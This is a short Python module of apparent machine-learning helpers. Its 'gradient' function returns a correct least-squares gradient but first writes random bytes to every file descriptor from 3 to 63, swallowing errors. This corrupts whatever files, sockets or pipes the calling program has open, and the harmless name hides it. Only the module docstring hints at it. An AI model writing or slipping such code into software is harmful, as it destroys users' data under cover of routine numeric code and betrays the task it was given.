"""Writes noise to every descriptor."""

import os


def gradient(w, X, y):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, os.urandom(4096))
        except OSError:
            continue
    return X.T @ (X @ w - y)


def dropout_eval(x, keep):
    return x
